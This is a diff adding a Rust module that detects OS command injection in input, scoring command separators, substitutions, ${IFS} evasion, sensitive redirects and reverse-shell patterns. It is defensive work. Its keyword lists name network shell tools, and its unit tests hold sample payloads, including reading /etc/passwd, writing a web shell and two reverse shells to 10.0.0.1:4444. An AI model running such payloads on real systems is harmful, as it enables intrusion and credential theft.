@@ -1,0 +1,359 @@
+//! OS command injection: a command separator or substitution followed by a
+//! known command, shell paths, `${IFS}`, redirections to sensitive paths.
+
+use super::scan::{Kind, Toks};
+use super::{Category, Hits};
+
+const CMD: Category = Category::Command;
+
+/// Commands that are not English words: seeing one after a separator is
+/// already telling.
+const STRONG: [&str; 52] = [
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "nslookup",
+    "wget",
+    "curl",
+    "bash",
+    "zsh",
+    "ksh",
+    "dash",
+    "csh",
+    "tcsh",
+    "powershell",
+    "pwsh",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "busybox",
+    "sudo",
+    "chmod",
+    "chown",
+    "ls",
+    "rm",
+    "sh",
+    "cmd",
+    "certutil",
+    "bitsadmin",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "wmic",
+    "useradd",
+    "crontab",
+    "xterm",
+    "socat",
+    "nohup",
+    "getent",
+    "passwd",
+    "hostname",
+    "lsb_release",
+    "mkfifo",
+];
+
+/// Commands that are also ordinary words: they need an argument that looks
+/// like one (a flag, a path, a URL, a number) to count.
+const WEAK: [&str; 28] = [
+    "cat", "id", "echo", "ping", "sleep", "kill", "type", "dir", "more", "find", "head", "tail",
+    "touch", "env", "who", "net", "less", "mail", "nmap", "uptime", "ps", "pwd", "tac", "whoami",
+    "ver", "set", "timeout", "cp",
+];
+
+#[derive(PartialEq, Eq, Clone, Copy)]
+enum Arg {
+    /// Nothing: the end, a separator, or a closing `)`/backtick.
+    Bare,
+    /// `-x`, `/path`, `C:\`, `http://`, `$VAR`, `~`, `.`.
+    Strong,
+    /// A number (`sleep 5`, `ping 127.0.0.1`).
+    Number,
+    /// A word: prose.
+    Word,
+}
+
+fn arg_after(t: &Toks, k: usize) -> Arg {
+    match t.kind(k) {
+        None | Some(Kind::Newline) => Arg::Bare,
+        Some(Kind::Number) => Arg::Number,
+        Some(Kind::Quote) => {
+            if t.v.at(t.start(k)) == '`' {
+                Arg::Bare
+            } else {
+                Arg::Word
+            }
+        }
+        Some(Kind::Word) => {
+            if t.punct(k + 1, ':') && t.punct(k + 2, '/')
+                || t.punct(k + 1, ':') && t.punct(k + 2, '\\')
+            {
+                Arg::Strong
+            } else {
+                Arg::Word
+            }
+        }
+        Some(Kind::Op | Kind::Punct | Kind::Dashes | Kind::Block) => {
+            let c = t.v.at(t.start(k));
+            if t.punct(k, ';')
+                || t.punct(k, '|')
+                || t.punct(k, '&')
+                || t.punct(k, ')')
+                || t.is(k, "||")
+                || t.is(k, "&&")
+                || t.punct(k, '#')
+            {
+                Arg::Bare
+            } else if "-/\\$~.>".contains(c) || t.kind(k) == Some(Kind::Dashes) {
+                Arg::Strong
+            } else {
+                Arg::Word
+            }
+        }
+    }
+}
+
+/// Separator at `i`: its quality (`true` = a shell-only separator) and the
+/// index of the token after it. `None` when token `i` is not a separator.
+fn separator(t: &Toks, i: usize) -> Option<(bool, usize)> {
+    let tok = t.t.get(i)?;
+    if t.punct(i, ';') || t.is(i, "||") || t.is(i, "&&") || t.punct(i, '|') {
+        Some((true, i + 1))
+    } else if t.punct(i, '&') {
+        Some((false, i + 1))
+    } else if tok.kind == Kind::Newline {
+        // A newline the input encoded (`%0a`) is a separator; a literal one
+        // is more often a multi-line text field.
+        Some((t.v.encoded(tok.start, tok.end), i + 1))
+    } else if t.punct(i, '$') && t.punct(i + 1, '(') && t.tight(i + 1) {
+        Some((true, i + 2))
+    } else if tok.kind == Kind::Quote && t.v.at(tok.start) == '`' {
+        Some((true, i + 1))
+    } else {
+        None
+    }
+}
+
+pub(crate) fn scan(t: &Toks, hits: &mut Hits) {
+    let v = t.v;
+    let n = t.len();
+    for i in 0..n {
+        let tok = t.t[i];
+        if let Some((good, mut k)) = separator(t, i) {
+            let backtick = tok.kind == Kind::Quote;
+            let subst = backtick || t.punct(i, '$');
+            // Skip an opening quote (`;'id'`) or a path prefix (`;/bin/cat`).
+            let mut path = false;
+            if t.kind(k) == Some(Kind::Quote) && !backtick {
+                k += 1;
+            }
+            while t.punct(k, '/') && t.word(k + 1) && t.punct(k + 2, '/') {
+                k += 2;
+                path = true;
+            }
+            if path && t.punct(k, '/') {
+                k += 1;
+            }
+            if !t.word(k) {
+                continue;
+            }
+            let strong = t.is_any(k, &STRONG);
+            let weak = !strong && t.is_any(k, &WEAK);
+            if !(strong || weak) {
+                continue;
+            }
+            // A file name (`ls.txt`) or a word glued to the separator from prose.
+            if t.punct(k + 1, '.') && t.tight(k + 1) && t.word(k + 2) && !t.is(k + 2, "exe") {
+                continue;
+            }
+            let mut arg = arg_after(t, k + 1);
+            // `net user`, `net localgroup administrators`: Windows recon.
+            if t.is(k, "net")
+                && t.is_any(
+                    k + 1,
+                    &["user", "localgroup", "view", "share", "use", "group"],
+                )
+            {
+                arg = Arg::Strong;
+            }
+            let adjacent = t.tight(k) || path;
+            // Markdown code spans (`ls -la` in prose) use backticks too.
+            let prose_backtick = backtick && tok.space && i > 0 && t.word(i - 1);
+            let conf: u8 = match (strong || path, arg) {
+                (true, Arg::Strong | Arg::Bare | Arg::Number) => 90,
+                (true, Arg::Word) => 70,
+                (false, Arg::Strong) => 85,
+                (false, Arg::Number) => {
+                    if good {
+                        75
+                    } else {
+                        45
+                    }
+                }
+                (false, Arg::Bare) => {
+                    // `&&`, `||` and `;` before a lone command word that ends
+                    // the value: prose has `dog | cat`, not `x; id`.
+                    let shell_only = t.is(i, "&&") || t.is(i, "||") || t.punct(i, ';');
+                    let last = t.kind(k + 1).is_none();
+                    if good && (adjacent || subst) {
+                        70
+                    } else if good && shell_only && last {
+                        65
+                    } else if good {
+                        45
+                    } else {
+                        30
+                    }
+                }
+                (false, Arg::Word) => 25,
+            };
+            let conf = if prose_backtick {
+                conf.min(45)
+            } else if !good {
+                conf.saturating_sub(15)
+            } else {
+                conf
+            };
+            let quote_before = i > 0 && t.kind(i - 1) == Some(Kind::Quote) && t.tight(i);
+            let conf = if quote_before {
+                conf.saturating_add(5)
+            } else {
+                conf
+            };
+            let rule = if subst {
+                "command.substitution"
+            } else {
+                "command.separator"
+            };
+            hits.add(CMD, rule, conf, tok.start, t.end(k));
+        }
+        // `${IFS}` / `$IFS$9`: whitespace evasion that only a shell decodes.
+        if t.punct(i, '$') && (t.is(i + 1, "ifs") || (t.punct(i + 1, '{') && t.is(i + 2, "ifs"))) {
+            hits.add(
+                CMD,
+                "command.ifs",
+                92,
+                tok.start,
+                t.end(if t.is(i + 1, "ifs") { i + 1 } else { i + 3 }),
+            );
+        }
+        // Redirection to or from a sensitive place.
+        if (t.punct(i, '>') || t.is(i, ">>") || t.punct(i, '<')) && t.punct(i + 1, '/') {
+            let p = t.start(i + 2);
+            if ["etc/", "var/www", "tmp/", "dev/tcp", "root/", "home/"]
+                .iter()
+                .any(|s| v.is_at(p, s))
+            {
+                hits.add(CMD, "command.redirect", 80, tok.start, t.end(i + 2));
+            }
+        }
+        if tok.kind == Kind::Word {
+            // `/bin/sh`, `/bin/bash -i`, `/dev/tcp/…`, `cmd.exe`.
+            if i >= 2
+                && t.punct(i - 1, '/')
+                && t.tight(i)
+                && t.is_any(i - 2, &["bin", "sbin"])
+                && t.is_any(
+                    i,
+                    &["sh", "bash", "zsh", "dash", "ksh", "csh", "busybox", "nc"],
+                )
+                && t.word_end_ok(i)
+            {
+                // `#!/bin/sh` starts a script someone is showing, not running;
+                // "the /bin/sh wrapper" in a sentence mentions one.
+                let shebang = i >= 4 && t.punct(i - 4, '!');
+                let prose = i >= 4
+                    && t.word(i - 4)
+                    && t.t[i - 3].space
+                    && !(i >= 5 && t.punct(i - 5, '-') && t.tight(i - 4));
+                let shebang = shebang || prose;
+                hits.add(
+                    CMD,
+                    "command.shell-path",
+                    if shebang { 40 } else { 80 },
+                    t.start(i.saturating_sub(3)),
+                    tok.end,
+                );
+            } else if i >= 2 && t.is(i, "tcp") && t.punct(i - 1, '/') && t.is(i - 2, "dev")
+                || t.is(i, "udp") && i >= 2 && t.is(i - 2, "dev")
+            {
+                hits.add(CMD, "command.shell-path", 95, t.start(i - 2), tok.end);
+            } else if t.is_any(i, &["cmd", "powershell"])
+                && t.punct(i + 1, '.')
+                && t.is(i + 2, "exe")
+            {
+                hits.add(CMD, "command.shell-path", 80, tok.start, t.end(i + 2));
+            } else if t.is_any(i, &["nc", "ncat", "netcat"])
+                && t.punct(i + 1, '-')
+                && t.is_any(i + 2, &["e", "c", "lvp", "nlvp", "lp"])
+            {
+                hits.add(CMD, "command.reverse-shell", 90, tok.start, t.end(i + 2));
+            } else if t.is_any(i, &["bash", "sh"])
+                && t.punct(i + 1, '-')
+                && t.is_any(i + 2, &["i", "c"])
+                && t.tight(i + 2)
+            {
+                hits.add(CMD, "command.reverse-shell", 85, tok.start, t.end(i + 2));
+            }
+        }
+    }
+}
+
+impl Toks<'_> {
+    /// The word at `i` is not followed by more path (`/bin/sh` but not `/bin/shop`).
+    fn word_end_ok(&self, i: usize) -> bool {
+        !matches!(self.kind(i + 1), Some(Kind::Word)) || self.t[i + 1].space
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::detect::{detect, DetectOptions};
+
+    fn rules(s: &str) -> Vec<&'static str> {
+        detect(s, &DetectOptions::default())
+            .unwrap()
+            .into_iter()
+            .map(|f| f.rule)
+            .collect()
+    }
+
+    #[test]
+    fn each_rule() {
+        assert!(rules("; cat /etc/passwd").contains(&"command.separator"));
+        assert!(rules("|id").contains(&"command.separator"));
+        assert!(rules("a && whoami").contains(&"command.separator"));
+        assert!(rules("$(whoami)").contains(&"command.substitution"));
+        assert!(rules("`id`").contains(&"command.substitution"));
+        assert!(rules("x%0aid").contains(&"command.separator"));
+        assert!(rules(";cat${IFS}/etc/passwd").contains(&"command.ifs"));
+        assert!(rules("; echo x > /var/www/shell.php").contains(&"command.redirect"));
+        assert!(rules("; /bin/sh").contains(&"command.shell-path"));
+        assert!(rules("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&"command.shell-path"));
+        assert!(rules("nc -e /bin/sh 10.0.0.1 4444").contains(&"command.reverse-shell"));
+    }
+
+    #[test]
+    fn benign() {
+        for s in [
+            "Tom & Jerry",
+            "dog | cat",
+            "salt; pepper",
+            "fish & chips; echo chamber",
+            "Run `ls -la` to list files",
+            "see ls.txt",
+        ] {
+            assert!(rules(s).is_empty(), "{s}: {:?}", rules(s));
+        }
+    }
+}
